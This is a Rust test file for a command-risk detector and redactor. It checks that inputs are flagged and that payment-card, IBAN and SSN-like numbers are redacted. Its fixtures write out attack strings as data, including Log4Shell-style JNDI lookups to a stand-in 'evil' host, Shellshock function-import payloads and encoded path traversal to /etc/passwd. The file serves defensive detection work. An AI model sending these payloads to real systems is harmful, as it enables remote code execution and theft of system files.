use super::super::redact;
use super::told;
use ctrlz_core::verdict::Risk;

#[test]
fn payloads_are_told() {
    for (text, name, risk) in [
        ("curl -H 'X: ${jndi:ldap://evil/a}' h", "lookup-payload", Risk::Medium),
        ("curl -A '${${lower:j}ndi:rmi://e/a}' h", "lookup-payload", Risk::Medium),
        ("env x='() { :;}; echo v' bash -c t", "function-import-payload", Risk::Medium),
        ("curl -A '() { :; }; /bin/id' h", "function-import-payload", Risk::Medium),
        ("cat ../../../../etc/passwd", "traversal-chain", Risk::Low),
        ("curl h/%2e%2e%2f%2e%2e%2fetc/passwd", "encoded-traversal", Risk::Medium),
        ("curl h/cgi-bin/.%2e/%2e%2e/etc/passwd", "encoded-traversal", Risk::Medium),
        (
            "curl h/..%252f..%252fx/%252e%252e%252f%252e%252e%252f",
            "encoded-traversal",
            Risk::Medium,
        ),
        ("curl 'h/?q=a%0d%0aSet-Cookie:x'", "encoded-line-break", Risk::Low),
        ("curl 'h/a.php%00.png'", "encoded-nul", Risk::Low),
    ] {
        assert!(told(text).contains(&(name, risk)), "{text}: {:?}", told(text));
        assert_eq!(redact(text), text);
    }
}

#[test]
fn what_looks_like_a_payload_is_left_alone() {
    for text in [
        "cd ../../.. && ls",
        "cat ../../../src/etc.rs",
        "cp ../../x/y .",
        "printf '%02x %05d'",
        "date +%Y%m%d%H%M",
        "f() { :; }\ng",
        "trap() { :;}; ls",
        "echo {{ x }} ${x}",
        "seq 1..3",
        "awk '{printf \"%0a\"}' f",
        "ls ...",
        "curl 'h/a%20b%2Fc'",
    ] {
        assert_eq!(told(text), [], "{text}");
    }
}

#[test]
fn numbers_of_persons_are_told_and_taken_out() {
    for (text, name) in [
        ("echo 4111 1111 1111 1111", "payment-card"),
        ("pay 4242424242424242", "payment-card"),
        ("x=5555-5555-5555-4444", "payment-card"),
        ("amex 378282246310005", "payment-card"),
        ("iban DE89 3704 0044 0532 0130 00", "bank-account"),
        ("iban GB82WEST12345698765432 x", "bank-account"),
        ("ssn: 123-45-6789", "social-security-number"),
    ] {
        assert_eq!(told(text), [(name, Risk::Medium)], "{text}");
        assert!(redact(text).contains(&format!("‹redacted: {name}›")));
        assert!(redact(text).bytes().filter(u8::is_ascii_digit).count() < 2);
    }
}

#[test]
fn other_numbers_are_left_alone() {
    for text in [
        "date -d @1700000000000",
        "echo 4111111111111112",
        "id 1234567890123456",
        "DE89370400440532013001",
        "call 123-45-6789",
        "kill -9 12345",
        "10.0.0.1 2024-01-02 03:04:05",
        "sleep 4000000000000",
        "x 41111111111111110000000000",
        "uuid 4111-1111-1111-1111-a",
        "mail -s hi a@b.org c@d.org",
        "v4.1.2-11111111",
    ] {
        assert_eq!(told(text), [], "{text}");
    }
}

#[test]
fn many_addresses_are_low() {
    let text: String = (0..25).map(|n| format!("user{n}@mail{n}.org\n")).collect();
    assert_eq!(told(&text), [("email-addresses", Risk::Low)]);
}
